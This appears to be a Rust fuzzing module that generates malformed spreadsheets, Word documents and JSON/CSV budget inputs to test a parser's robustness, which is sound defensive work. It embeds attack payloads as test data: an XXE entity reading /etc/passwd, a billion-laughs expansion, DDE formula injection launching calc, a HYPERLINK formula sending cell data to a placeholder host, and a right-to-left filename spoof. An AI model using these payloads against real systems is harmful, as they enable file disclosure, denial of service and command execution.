//! A seeded generator of hostile variants of real workbooks: byte flips and truncations of the
//! file, and mutations of the XML inside the zip (cell references in every spelling and size,
//! lying counts and dimensions, deep nesting, very long strings, odd cell types, repeat
//! counts, external entities and entity expansion), recompressed as a valid zip; and mutants of
//! the data inputs (JSON, facts.csv). The same seed gives the same mutants.

use std::io::{Read, Write};

/// A small, fast, seedable generator (SplitMix64).
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed)
    }

    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

/// One mutant: a name saying what was done, its extension and bytes.
pub struct Mutant {
    pub name: String,
    pub ext: &'static str,
    pub bytes: Vec<u8>,
}

/// The `n` mutants of `seed`, cycling through the bases (extension, bytes).
pub fn mutants(bases: &[(&'static str, Vec<u8>)], n: usize, seed: u64) -> Vec<Mutant> {
    let mut rng = Rng::new(seed);
    (0..n)
        .map(|i| {
            let (ext, base) = &bases[i % bases.len()];
            let (what, bytes) = mutate(&mut rng, ext, base);
            Mutant {
                name: format!("m{i:05}-{what}"),
                ext,
                bytes,
            }
        })
        .collect()
}

fn mutate(rng: &mut Rng, ext: &str, base: &[u8]) -> (String, Vec<u8>) {
    let zipped = ext != "xls";
    match rng.below(if zipped { 10 } else { 4 }) {
        0 => ("flip".into(), flip(rng, base.to_vec())),
        1 => {
            let at = rng.below(base.len());
            ("truncate".into(), base[..at].to_vec())
        }
        2 if !zipped => ("cfb-header".into(), cfb_header(rng, base.to_vec())),
        3 if !zipped => ("record-length".into(), record_lengths(rng, base.to_vec())),
        _ if zipped => xml_mutant(rng, ext, base),
        _ => ("flip".into(), flip(rng, base.to_vec())),
    }
}

/// Flips 1 to 20 random bytes.
fn flip(rng: &mut Rng, mut bytes: Vec<u8>) -> Vec<u8> {
    for _ in 0..1 + rng.below(20) {
        let at = rng.below(bytes.len());
        bytes[at] ^= 1 << rng.below(8);
    }
    bytes
}

/// Writes a large or random number over a count of the compound-file header.
fn cfb_header(rng: &mut Rng, mut bytes: Vec<u8>) -> Vec<u8> {
    let at = *rng.pick(&[30usize, 32, 40, 44, 48, 56, 60, 64, 68, 72, 76, 80]);
    let value = *rng.pick(&[0xFFFF_FFFFu32, 0x7FFF_FFFF, 0x0010_0000, 12, 0, 1 << 20]);
    bytes[at..at + 4].copy_from_slice(&value.to_le_bytes());
    bytes
}

/// Makes the length fields of some BIFF records lie, somewhere after the header.
fn record_lengths(rng: &mut Rng, mut bytes: Vec<u8>) -> Vec<u8> {
    for _ in 0..1 + rng.below(5) {
        let at = 512 + rng.below(bytes.len().saturating_sub(516));
        let value = *rng.pick(&[0xFFFFu16, 0x2020, 0x8224, 0]);
        bytes[at..at + 2].copy_from_slice(&value.to_le_bytes());
    }
    bytes
}

/// The entries of a zip, in order.
fn entries(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a base is a zip");
    (0..zip.len())
        .map(|i| {
            let mut e = zip.by_index(i).unwrap();
            let mut data = Vec::new();
            e.read_to_end(&mut data).unwrap();
            (String::from_utf8_lossy(e.name_raw()).into_owned(), data)
        })
        .collect()
}

fn rezip(entries: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(entries.iter().any(|(_, d)| d.len() > u32::MAX as usize / 2));
    for (name, data) in entries {
        out.start_file(name.as_str(), options).unwrap();
        out.write_all(data).unwrap();
    }
    out.finish().unwrap().into_inner()
}

/// A far cell reference in one of its spellings.
fn far_ref(rng: &mut Rng) -> String {
    rng.pick(&[
        "XFD1048576",
        "A1048576",
        "XFD1",
        "ZZZZZ9",
        "A99999999999999999999",
        "AAAAAAAAAAAAAA1",
        "A0",
        "",
        "1A",
        "$XFD$1048576",
        "xfd1048576",
    ])
    .to_string()
}

/// `r="…"` with random whitespace and quotes.
fn spelled_attr(rng: &mut Rng, name: &str, value: &str) -> String {
    let sep = rng.pick(&[" ", "\n", "\t", "\r\n "]);
    let eq = rng.pick(&["=", " = ", "\n=\n"]);
    let q = rng.pick(&["\"", "'"]);
    format!("{sep}{name}{eq}{q}{value}{q}")
}

fn xml_mutant(rng: &mut Rng, ext: &str, base: &[u8]) -> (String, Vec<u8>) {
    let mut entries = entries(base);
    let xml: Vec<usize> = entries
        .iter()
        .enumerate()
        .filter(|(_, (n, _))| n.ends_with(".xml") || n.ends_with(".rels"))
        .map(|(i, _)| i)
        .collect();
    let sheets: Vec<usize> = entries
        .iter()
        .enumerate()
        .filter(|(_, (n, _))| n.starts_with("xl/worksheets/") || n == "content.xml")
        .map(|(i, _)| i)
        .collect();
    let target = if rng.below(4) == 0 {
        *rng.pick(&xml)
    } else {
        *rng.pick(&sheets)
    };
    let ods = ext == "ods";
    let text = String::from_utf8_lossy(&entries[target].1).into_owned();
    let (what, text) = match rng.below(13) {
        0 if ods => ("repeat-columns", ods_repeat(rng, &text, "table-cell", "number-columns-repeated")),
        1 if ods => ("repeat-rows", ods_repeat(rng, &text, "table-row", "number-rows-repeated")),
        0 | 1 => {
            let far = far_ref(rng);
            let cell = format!("<c{}><v>1</v></c>", spelled_attr(rng, "r", &far));
            ("far-cell", insert_after(rng, &text, "<row", '>', &cell))
        }
        2 => ("cell-without-r", strip_refs(&text)),
        3 => (
            "prefixed",
            text.replace("<c ", "<x:c ")
                .replace("</c>", "</x:c>")
                .replacen("<worksheet ", "<worksheet xmlns:x=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" ", 1),
        ),
        4 => {
            let count = rng.pick(&["4000000000", "99999999999999999999", "-1", "2147483648"]);
            let t = text
                .replace("uniqueCount=\"", &format!("uniqueCount=\"{count}"))
                .replace(" count=\"", &format!("{} data-x=\"", spelled_attr(rng, "count", count)));
            let dims = format!("<dimension ref=\"A1:{}\"/>", far_ref(rng));
            ("lying-counts", insert_after(rng, &t, "<sheetData", '>', &dims))
        }
        5 => {
            let depth = 1000 + rng.below(100_000);
            let nest = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
            ("deep-nesting", insert_after(rng, &text, "<", '>', &nest))
        }
        6 => {
            let long = "长".repeat(10_000 + rng.below(1_000_000));
            let cell = if ods {
                format!("<table:table-cell office:value-type=\"string\"><text:p>{long}</text:p></table:table-cell>")
            } else {
                format!("<c t=\"inlineStr\"><is><t>{long}</t></is></c>")
            };
            let anchor = if ods { "<table:table-row" } else { "<row" };
            ("long-string", insert_after(rng, &text, anchor, '>', &cell))
        }
        7 => {
            let t = rng.pick(&["e", "b", "d", "str", "inlineStr", "n", "zz", "s"]);
            let v = rng.pick(&["NaN", "1e309", "-", "99999999999999999999999", "#REF!", "", "-0", "1e-400", "4294967296"]);
            let cell = format!("<c t=\"{t}\"><v>{v}</v></c>");
            let odd = if ods {
                text.replacen("office:value-type=\"float\" office:value=\"", &format!("office:value-type=\"{t}\" office:value=\"{v}"), 1 + rng.below(50))
            } else {
                insert_after(rng, &text, "<row", '>', &cell)
            };
            ("odd-type", odd)
        }
        8 => {
            let merge = format!("<mergeCell ref=\"A1:{}\"/>", far_ref(rng));
            let t = if text.contains("<mergeCells") {
                insert_after(rng, &text, "<mergeCells", '>', &merge)
            } else {
                text.replacen("</sheetData>", &format!("</sheetData><mergeCells>{merge}</mergeCells>"), 1)
            };
            let t = if ods {
                text.replacen("<table:table-cell ", "<table:table-cell table:number-columns-spanned=\"16384\" table:number-rows-spanned=\"1048576\" ", 1 + rng.below(5))
            } else {
                t
            };
            ("huge-merge", t)
        }
        9 => {
            entries.remove(target);
            return ("missing-part".into(), rezip(&entries));
        }
        10 => (
            "xxe",
            with_doctype(
                &text,
                r#"<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
                "&xxe;",
            ),
        ),
        11 => {
            let mut dtd = String::from(r#"<!DOCTYPE x [<!ENTITY l0 "lol">"#);
            for i in 1..=9 {
                let refs = format!("&l{};", i - 1).repeat(10);
                dtd.push_str(&format!(r#"<!ENTITY l{i} "{refs}">"#));
            }
            dtd.push_str("]>");
            ("billion-laughs", with_doctype(&text, &dtd, "&l9;"))
        }
        _ => {
            let bytes = flip(rng, text.into_bytes());
            entries[target].1 = bytes;
            return ("xml-flip".into(), rezip(&entries));
        }
    };
    entries[target].1 = text.into_bytes();
    (what.to_string(), rezip(&entries))
}

/// An XML text with a document type declaration (`dtd`) after its XML declaration, and
/// `reference` (an entity) as the text of its first value or string.
fn with_doctype(text: &str, dtd: &str, reference: &str) -> String {
    let at = text.find("?>").map_or(0, |i| i + 2);
    let mut out = format!("{}{dtd}{}", &text[..at], &text[at..]);
    for open in ["<v>", "<t>", "<text:p>"] {
        if let Some(i) = out.find(open) {
            out.insert_str(i + open.len(), reference);
            break;
        }
    }
    out
}

/// Inserts `what` after the end (`close`) of a random occurrence of `tag`.
fn insert_after(rng: &mut Rng, text: &str, tag: &str, close: char, what: &str) -> String {
    let starts: Vec<usize> = text.match_indices(tag).map(|(i, _)| i).collect();
    if starts.is_empty() {
        return format!("{text}{what}");
    }
    let at = *rng.pick(&starts);
    match text[at..].find(close) {
        Some(end) => {
            let cut = at + end + close.len_utf8();
            format!("{}{what}{}", &text[..cut], &text[cut..])
        }
        None => format!("{text}{what}"),
    }
}

/// Removes the `r` attribute of every cell and numbers the last row 1048576.
fn strip_refs(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("<c r=\"") {
        out.push_str(&rest[..at]);
        out.push_str("<c");
        let after = &rest[at + "<c r=\"".len()..];
        let end = after.find('"').map_or(after.len(), |e| e + 1);
        rest = &after[end..];
    }
    out.push_str(rest);
    match out.rfind("<row r=\"") {
        Some(at) => {
            let after = &out[at + 8..];
            let end = after.find('"').unwrap_or(0);
            format!("{}<row r=\"1048576{}", &out[..at], &after[end..])
        }
        None => out,
    }
}

/// Sets a large repeat count on some `table:NAME` elements that have content.
fn ods_repeat(rng: &mut Rng, text: &str, name: &str, attr: &str) -> String {
    let value = rng.pick(&["16384", "1048576", "4294967295", "99999999999"]);
    let open = format!("<table:{name} ");
    text.replacen(
        &open,
        &format!("<table:{name} table:{attr}=\"{value}\" "),
        1 + rng.below(20),
    )
}

/// The `n` mutants of a Word document (a 情况说明): byte flips, truncations, and mutations of
/// `word/document.xml` — paragraphs nested deep, a run of a million characters, tags and
/// entities left open or out of range, numbers a thousand digits long, the part removed.
pub fn document_mutants(base: &[u8], n: usize, seed: u64) -> Vec<Mutant> {
    let mut rng = Rng::new(seed);
    (0..n)
        .map(|i| {
            let (what, bytes) = match rng.below(8) {
                0 => ("flip".to_owned(), flip(&mut rng, base.to_vec())),
                1 => {
                    let at = rng.below(base.len());
                    ("truncate".to_owned(), base[..at].to_vec())
                }
                _ => document_xml_mutant(&mut rng, base),
            };
            Mutant {
                name: format!("d{i:05}-{what}"),
                ext: "docx",
                bytes,
            }
        })
        .collect()
}

fn document_xml_mutant(rng: &mut Rng, base: &[u8]) -> (String, Vec<u8>) {
    let mut entries = entries(base);
    let Some(target) = entries.iter().position(|(n, _)| n == "word/document.xml") else {
        return ("flip".into(), flip(rng, base.to_vec()));
    };
    let text = String::from_utf8_lossy(&entries[target].1).into_owned();
    let at = text.find("<w:body>").map_or(0, |i| i + "<w:body>".len());
    let insert = |what: &str| format!("{}{what}{}", &text[..at], &text[at..]);
    let (what, text) = match rng.below(8) {
        0 => ("nested", insert(&"<w:p><w:r>".repeat(100_000))),
        1 => (
            "long-run",
            insert(&format!(
                "<w:p><w:r><w:t>{}</w:t></w:r></w:p>",
                "支出".repeat(500_000)
            )),
        ),
        2 => ("open-tag", insert("<w:p><w:r><w:t>基本支出 404.8 万元")),
        3 => (
            "entities",
            insert("<w:p><w:r><w:t>&#xFFFFFFFF;&#0;&#55296;&amp&lt;&bogus;</w:t></w:r></w:p>"),
        ),
        4 => (
            "long-number",
            insert(&format!(
                "<w:p><w:r><w:t>基本支出{}.{}万元，占{}%</w:t></w:r></w:p>",
                "9".repeat(1000),
                "9".repeat(1000),
                "1,000".repeat(300)
            )),
        ),
        5 => {
            entries.remove(target);
            return ("no-document".into(), rezip(&entries));
        }
        6 => (
            "many-statements",
            insert(&"<w:p><w:r><w:t>基本支出1万元，占1%；</w:t></w:r></w:p>".repeat(20_000)),
        ),
        _ => {
            let mut cut = rng.below(text.len());
            while !text.is_char_boundary(cut) {
                cut -= 1;
            }
            ("cut", text[..cut].to_owned())
        }
    };
    entries[target].1 = text.into_bytes();
    (what.to_owned(), rezip(&entries))
}

/// Texts that a spreadsheet would take for a formula (DDE, links, arithmetic), or that hide or
/// reverse what follows.
const HOSTILE_TEXTS: [&str; 10] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "四川\u{202E}gpj.exe",
    "名称\u{0}含空字符",
    "CON",
];

/// Amounts beyond a budget, or not amounts at all.
const HOSTILE_AMOUNTS: [&str; 9] = [
    "1e400",
    "79228162514264337593543950335",
    "-79228162514264337593543950335",
    "1000000000000000",
    "0.0000000000000000000000000001",
    "NaN",
    "",
    "１２３",
    "1,347.44",
];

/// The `n` mutants of the data inputs for `seed`: half of `json` (a budget as `convert`
/// writes it), half of `csv` (its facts.csv).
pub fn data_mutants(json: &str, csv: &str, n: usize, seed: u64) -> Vec<Mutant> {
    let mut rng = Rng::new(seed ^ 0xDA7A);
    (0..n)
        .map(|i| {
            let (ext, what, bytes) = if i % 2 == 0 {
                let (what, bytes) = json_mutant(&mut rng, json);
                ("json", what, bytes)
            } else {
                let (what, bytes) = csv_mutant(&mut rng, csv);
                ("csv", what, bytes)
            };
            Mutant {
                name: format!("d{i:05}-{what}"),
                ext,
                bytes,
            }
        })
        .collect()
}

/// Every string or number under `value` that `f` may replace, as JSON pointers.
fn pointers(
    value: &serde_json::Value,
    at: String,
    keep: &dyn Fn(&str) -> bool,
    out: &mut Vec<String>,
) {
    match value {
        serde_json::Value::Object(map) => {
            for (k, v) in map {
                pointers(
                    v,
                    format!("{at}/{}", k.replace('~', "~0").replace('/', "~1")),
                    keep,
                    out,
                );
            }
        }
        serde_json::Value::Array(items) => {
            for (i, v) in items.iter().enumerate() {
                pointers(v, format!("{at}/{i}"), keep, out);
            }
        }
        _ if keep(&at) => out.push(at),
        _ => {}
    }
}

fn json_mutant(rng: &mut Rng, base: &str) -> (String, Vec<u8>) {
    let mut v: serde_json::Value = serde_json::from_str(base).unwrap();
    let what = match rng.below(9) {
        0 | 1 => {
            // A text field: the entity's code or name, a row's code, name or unit, a text.
            let mut at = Vec::new();
            pointers(
                &v,
                String::new(),
                &|p| !p.contains("/amounts/") && !p.ends_with("/kind") && !p.ends_with("/number"),
                &mut at,
            );
            let p = rng.pick(&at).clone();
            *v.pointer_mut(&p).unwrap() = (*rng.pick(&HOSTILE_TEXTS)).into();
            "text"
        }
        2 | 3 => {
            let mut at = Vec::new();
            pointers(&v, String::new(), &|p| p.contains("/amounts/"), &mut at);
            let p = rng.pick(&at).clone();
            *v.pointer_mut(&p).unwrap() = (*rng.pick(&HOSTILE_AMOUNTS)).into();
            "amount"
        }
        4 => {
            // Many copies of one row.
            let t = rng.below(13);
            let rows = v["tables"][t]["rows"].as_array_mut().unwrap();
            if let Some(row) = rows.get(rng.below(rows.len())).cloned() {
                rows.extend(std::iter::repeat_n(row, 5000));
            }
            "many-rows"
        }
        5 => {
            let choices: [(&str, serde_json::Value); 5] = [
                ("/tables/0/number", 255.into()),
                ("/tables/1/number", 1.into()),
                ("/tables/2/rows/1/kind", "grand".into()),
                ("/year", (-1).into()),
                ("/tables", "x".into()),
            ];
            let (p, x) = rng.pick(&choices).clone();
            *v.pointer_mut(p).unwrap() = x;
            "wrong-value"
        }
        6 => {
            let depth = 1 + rng.below(20_000);
            return (
                "deep".into(),
                format!("{}{}", "[".repeat(depth), "]".repeat(depth)).into_bytes(),
            );
        }
        7 => {
            let text = serde_json::to_string(&v).unwrap();
            let cut = rng.below(text.len());
            return ("truncated".into(), text.as_bytes()[..cut].to_vec());
        }
        _ => return ("flip".into(), flip(rng, serde_json::to_vec(&v).unwrap())),
    };
    (what.into(), serde_json::to_vec(&v).unwrap())
}

/// A CSV field quoted as needed.
fn field(text: &str) -> String {
    if text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

fn csv_mutant(rng: &mut Rng, base: &str) -> (String, Vec<u8>) {
    let mut lines: Vec<String> = base.lines().map(str::to_owned).collect();
    let at = 1 + rng.below(lines.len() - 1);
    // table,row,code,name,unit_code,column,amount,kind
    let mut cells: Vec<String> = lines[at].split(',').map(str::to_owned).collect();
    let what = match rng.below(8) {
        0 | 1 => {
            let column = *rng.pick(&[2usize, 3, 4, 5]);
            let text = *rng.pick::<&str>(&HOSTILE_TEXTS);
            cells[column] = field(text);
            "text"
        }
        2 => {
            let amount = *rng.pick::<&str>(&HOSTILE_AMOUNTS);
            cells[6] = field(amount);
            "amount"
        }
        3 => {
            cells[*rng.pick(&[0usize, 1])] = (*rng.pick(&[
                "0",
                "14",
                "255",
                "99999999999",
                "-1",
                "18446744073709551616",
            ]))
            .to_owned();
            "number"
        }
        4 => {
            cells[3] = format!("\"{}", cells[3]);
            "unclosed-quote"
        }
        5 => {
            let line = lines[at].clone();
            lines.extend(std::iter::repeat_n(line, 20_000));
            "many-lines"
        }
        6 => {
            let cut = rng.below(base.len());
            return ("truncated".into(), base.as_bytes()[..cut].to_vec());
        }
        _ => return ("flip".into(), flip(rng, base.as_bytes().to_vec())),
    };
    if what != "many-lines" {
        lines[at] = cells.join(",");
    }
    (what.into(), (lines.join("\n") + "\n").into_bytes())
}
